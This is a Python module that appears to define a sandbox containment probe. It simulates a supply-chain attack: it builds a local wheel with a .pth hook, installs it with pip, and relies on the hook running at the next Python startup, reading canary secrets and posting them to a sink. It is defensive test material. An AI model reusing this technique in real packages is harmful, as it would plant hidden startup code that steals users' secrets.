from ._net import LOOT, WHEEL

ID = "supply.pth-wheel"
CATEGORY = "supply-chain"
DESCRIPTION = ("pip installs a local wheel (no index) into a venv; its .pth runs at the next Python "
               "start-up, reads the canaries and posts them to the sink")
CLAIMS = ("host_fs_hidden", "rule:env", "rule:network (namespace)")
POLICY = {"limits": {"timeout": "60s"}}
CODE = LOOT + WHEEL + """
import subprocess, venv
venv.EnvBuilder(with_pip=False).create(os.path.join(SCRATCH, "venv"))
vpy = os.path.join(SCRATCH, "venv", "bin", "python")
site_dir = subprocess.run([vpy, "-c", "import site; print(site.getsitepackages()[0])"],
                          capture_output=True, text=True).stdout.strip()
os.makedirs(os.path.join(SCRATCH, "w"), exist_ok=True)
hook = f"import runpy; runpy.run_path({site_dir + '/probe_hook.py'!r})\\n"   # a .pth's import line runs
whl = make_wheel(os.path.join(SCRATCH, "w"), "probehook",
                 {"probehook.pth": hook,
                  "probe_hook.py": loot_source()})
p = subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-index", "--no-deps",
                    "--no-cache-dir", "--disable-pip-version-check", "--target", site_dir, whl],
                   capture_output=True, text=True)
print(p.stderr[-500:])
r = subprocess.run([vpy, "-c", "pass"], capture_output=True, text=True)   # any later Python
print(r.stdout[-4000:])
if not loot_ran():
    out("UNSUPPORTED", f"pip exit {p.returncode}: the .pth did not run")
else:
    out("DENIED", "the .pth ran at start-up; what it found and sent is seen from outside")
"""
CONTROL = "host"
CONTAINED = "the .pth runs but finds no secret (no key, no supervisor variable) and reaches no sink"
